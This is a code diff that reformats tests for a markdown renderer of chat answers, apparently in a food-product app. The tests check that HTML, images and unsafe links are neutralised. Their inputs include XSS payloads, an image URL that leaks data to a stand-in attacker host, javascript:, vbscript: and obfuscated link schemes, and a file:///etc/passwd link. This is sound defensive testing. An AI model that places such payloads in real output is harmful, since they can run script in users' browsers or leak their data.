@@ -18,32 +18,43 @@ describe('markdown of an answer', () => {
   });
 
   it('never makes elements of HTML', async () => {
-    const page = await show('<img src=x onerror=alert(1)> <b>hi</b>\n\n<script>alert(1)</script>\n\n<iframe src="https://x.example"></iframe>');
+    const page = await show(
+      '<img src=x onerror=alert(1)> <b>hi</b>\n\n<script>alert(1)</script>\n\n<iframe src="https://x.example"></iframe>',
+    );
     expect(page.querySelector('img, b, script, iframe')).toBeNull();
     expect(page.textContent).toContain('onerror');
   });
 
-  it.each(['![cup](https://evil.example/pixel.png?d=secret)', '![cup](data:image/png;base64,AAAA)', '![cup][p]\n\n[p]: https://evil.example/p.png', '![cup](/icons/icon-192.png)'])(
-    'shows a picture by its words alone: %s', async (markdown) => {
-      const page = await show(markdown);
-      expect(page.querySelector('img, picture, source')).toBeNull();
-      expect(page.innerHTML).not.toContain('evil.example');
-      expect(page.textContent).toContain('cup');
-    },
-  );
+  it.each([
+    '![cup](https://evil.example/pixel.png?d=secret)',
+    '![cup](data:image/png;base64,AAAA)',
+    '![cup][p]\n\n[p]: https://evil.example/p.png',
+    '![cup](/icons/icon-192.png)',
+  ])('shows a picture by its words alone: %s', async (markdown) => {
+    const page = await show(markdown);
+    expect(page.querySelector('img, picture, source')).toBeNull();
+    expect(page.innerHTML).not.toContain('evil.example');
+    expect(page.textContent).toContain('cup');
+  });
 
   it.each(['[x](javascript:alert(1))', '[x](data:text/html,a)', '[x](vbscript:a)', '<file:///etc/passwd>', '[x](JAVASCRIPT&#58;alert(1))'])(
-    'blanks the link of %s', async (markdown) => {
+    'blanks the link of %s',
+    async (markdown) => {
       const page = await show(markdown);
       expect(page.querySelectorAll('a[href]')).toHaveLength(0);
     },
   );
 
   it.each(['http://who.int', 'https://who.int', 'irc://a.example/b', 'ircs://a.example/b', 'mailto:a@example.com', 'xmpp:a@example.com'])(
-    'links to %s, in a tab of its own and without a trace', async (address) => {
+    'links to %s, in a tab of its own and without a trace',
+    async (address) => {
       await show(`[source](${address})`);
       const link = screen.getByRole('link', { name: /^source/ });
-      expect([link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')]).toEqual([address, '_blank', 'noopener noreferrer nofollow']);
+      expect([link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')]).toEqual([
+        address,
+        '_blank',
+        'noopener noreferrer nofollow',
+      ]);
     },
   );
 
@@ -65,7 +76,12 @@ describe('markdown of an answer', () => {
   });
 
   it('gives the footnotes of two messages names of their own, and takes labels of up to 999 characters', async () => {
-    render(<I18nextProvider i18n={(await import('../../../i18n/english.ts')).englishI18n}><MarkdownText id="m1">{'a[^1]\n\n[^1]: one'}</MarkdownText><MarkdownText id="m2">{'b[^1]\n\n[^1]: two'}</MarkdownText></I18nextProvider>);
+    render(
+      <I18nextProvider i18n={(await import('../../../i18n/english.ts')).englishI18n}>
+        <MarkdownText id="m1">{'a[^1]\n\n[^1]: one'}</MarkdownText>
+        <MarkdownText id="m2">{'b[^1]\n\n[^1]: two'}</MarkdownText>
+      </I18nextProvider>,
+    );
     const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id).filter((id) => id.includes('fn-1'));
     expect(ids).toEqual(['m1-fn-1', 'm2-fn-1']);
     const labelled = (length: number) => `x[^${'a'.repeat(length)}]\n\n[^${'a'.repeat(length)}]: note`;
@@ -78,7 +94,8 @@ describe('a list item about a product', () => {
   const PATH = 'GET /api/foods/barcode/3017620422003';
 
   it.each([
-    ['- [Skyr](/results/3017620422003) (Arla): **88** (Great Match)', '88'], ['- 40 g [Skyr](/results/3017620422003): score **7 of 100**', '7'],
+    ['- [Skyr](/results/3017620422003) (Arla): **88** (Great Match)', '88'],
+    ['- 40 g [Skyr](/results/3017620422003): score **7 of 100**', '7'],
     ['1. [Skyr](/results/3017620422003): 11 g\n\n2. [Beans](/results/5449000000996): 7 g', null],
   ])('%s has its drawn pack, and the score that it states', async (markdown, score) => {
     fakeFetch({ [PATH]: { body: aListFood({ image: 'https://images.example/skyr.jpg' }) } });
@@ -89,7 +106,11 @@ describe('a list item about a product', () => {
     expect(page.querySelector('img')).toBeNull();
   });
 
-  it.each(['- Nothing but words', '- [who](https://who.int): **88**', '- Compared with what you had on Monday, [Skyr](/results/3017620422003) is better', '- **88** of [Skyr](/results/3017620422003)', '- [Skyr](/results/3017620422003): **88**\n- two more were high in sugars'])(
-    'is none: %s', async (markdown) => expect((await show(markdown)).querySelector('[data-product]')).toBeNull(),
-  );
+  it.each([
+    '- Nothing but words',
+    '- [who](https://who.int): **88**',
+    '- Compared with what you had on Monday, [Skyr](/results/3017620422003) is better',
+    '- **88** of [Skyr](/results/3017620422003)',
+    '- [Skyr](/results/3017620422003): **88**\n- two more were high in sugars',
+  ])('is none: %s', async (markdown) => expect((await show(markdown)).querySelector('[data-product]')).toBeNull());
 });
